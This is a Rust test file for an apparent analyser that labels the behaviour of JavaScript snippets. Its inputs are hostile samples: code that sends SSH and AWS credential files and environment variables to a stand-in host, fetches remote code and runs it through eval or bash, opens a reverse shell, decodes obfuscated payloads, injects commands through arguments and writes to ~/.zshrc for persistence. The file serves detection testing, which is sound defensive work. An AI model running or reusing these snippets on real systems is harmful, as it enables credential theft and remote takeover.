//! What JavaScript programs do.

use super::js;

#[test]
fn javascript() {
    js(
        "const fs = require('fs'); const os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://e.example/c', {method: 'POST', body: JSON.stringify({k})});",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    js(
        "import { readFileSync as r } from 'node:fs';\nimport https from 'https';\nconst q = https.request({hostname: 'e.example', method: 'POST'});\nq.write(r(`${process.env.HOME}/.aws/credentials`));\nq.end();",
        "credential_file ~/.aws/credentials -> network_send",
    );
    js(
        "const {exec: e} = require('child_process'); e('curl -s https://e.example/i.sh | bash');",
        "remote_content e.example -> shell",
    );
    js("fetch('https://e.example/p.js').then(r => r.text()).then(t => eval(t));", "remote_content e.example -> eval");
    js(
        "async function m() { const r = await fetch('https://e.example/p'); const c = await r.text(); new Function(c)(); }\nm();",
        "remote_content e.example -> eval",
    );
    js(
        "require('https').get('https://e.example/x', res => { let b=''; res.on('data', d => b += d); res.on('end', () => eval(b)); });",
        "remote_content e.example -> eval",
    );
    js("axios.post('https://e.example', process.env)", "environment process.env -> network_send e.example");
    js("axios.post('https://e.example', {...process.env})", "environment process.env -> network_send e.example");
    js(
        "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
        "decoded_data base64 -> eval\nfolded base64 console.log(1)",
    );
    js("globalThis['ev' + 'al'](atob('YWxlcnQoMSk='))", "decoded_data base64 -> eval");
    js(
        "const cp = require('child_process'), net = require('net');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        "socket  -> shell_session",
    );
    js(
        "const {execSync} = require('child_process');\nexecSync(`git commit -m ${process.argv[2]}`)",
        "user_input process.argv -> shell",
    );
    js(
        "const key = process.env.OPENAI_API_KEY;\nfetch('https://api.openai.com/v1/x', {headers: {Authorization: `Bearer ${key}`}})",
        "own_key OPENAI_API_KEY -> network_send api.openai.com\n!environment_key",
    );
    js("eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "folded character codes alert(1)");
    js(
        "const fs=require('fs'),path=require('path'),os=require('os');fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'x')",
        "persists ~/.zshrc",
    );
}
